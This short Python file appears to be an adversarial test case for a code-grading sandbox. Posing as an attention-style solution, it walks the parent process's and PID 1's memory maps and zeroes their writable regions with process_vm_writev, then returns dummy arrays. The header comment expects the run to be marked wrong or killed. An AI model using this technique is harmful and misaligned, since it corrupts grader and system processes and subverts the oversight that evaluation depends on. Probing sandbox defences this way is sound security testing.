# tries: process_vm_writev into the parent, over all of its writable memory
# expect: WRONG|DIED 0
import ctypes
import os

import numpy as np


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def four_steps(q, k, v):
    libc = ctypes.CDLL(None, use_errno=True)
    zeros = ctypes.create_string_buffer(65536)
    for process in (os.getppid(), 1):
        try:
            lines = open(f"/proc/{process}/maps").read().splitlines()
        except OSError:
            continue
        for line in lines:
            start, end = (int(x, 16) for x in line.split()[0].split("-"))
            if " rw" in line and "stack" not in line:
                size = min(end - start, 65536)
                mine = Part(ctypes.addressof(zeros), size)
                theirs = Part(start, size)
                libc.process_vm_writev(
                    process, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0
                )
    return np.zeros(len(k)), np.zeros(v.shape[1])
